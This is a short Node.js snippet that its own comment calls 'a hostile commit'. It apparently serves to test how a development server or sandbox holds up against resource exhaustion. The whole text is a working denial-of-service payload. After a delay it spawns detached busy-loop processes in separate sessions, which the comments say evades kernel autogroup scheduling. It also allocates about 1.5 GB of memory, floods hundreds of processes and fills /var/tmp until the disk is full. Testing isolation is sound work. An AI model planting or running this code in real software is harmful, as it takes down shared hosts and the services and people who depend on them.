// A hostile commit: busy loops, a memory balloon, a process flood, a disk filler.
setTimeout(async () => {
  const { spawn } = await import('node:child_process');
  const { appendFileSync } = await import('node:fs');
  const os = await import('node:os');
  // Two loops per droplet core: inside the dev server os.cpus() is empty (ProcSubset=pid hides /proc/cpuinfo).
  // Each in a session of its own (detached: setsid), as a hostile commit would: the kernel's autogroups
  // weigh one session's loops as one task, which hid their load from production.
  const loops = Math.max(2 * os.cpus().length, 4);
  for (let i = 0; i < loops; i++) {
    spawn(process.execPath, ['-e', 'for (;;) {}'], { stdio: 'ignore', detached: true }).on('error', () => {});
  }
  globalThis.balloon = Array.from({ length: 6 }, () => Buffer.alloc(256 * 1024 * 1024, 1));
  for (let i = 0; i < 800; i++) {
    try { spawn('sleep', ['600'], { stdio: 'ignore' }).on('error', () => {}); } catch { /* EAGAIN */ }
  }
  const chunk = Buffer.alloc(32 * 1024 * 1024, 7);
  const fill = () => { try { appendFileSync('/var/tmp/filler', chunk); setTimeout(fill, 5); } catch { /* full */ } };
  fill();
}, 4000);
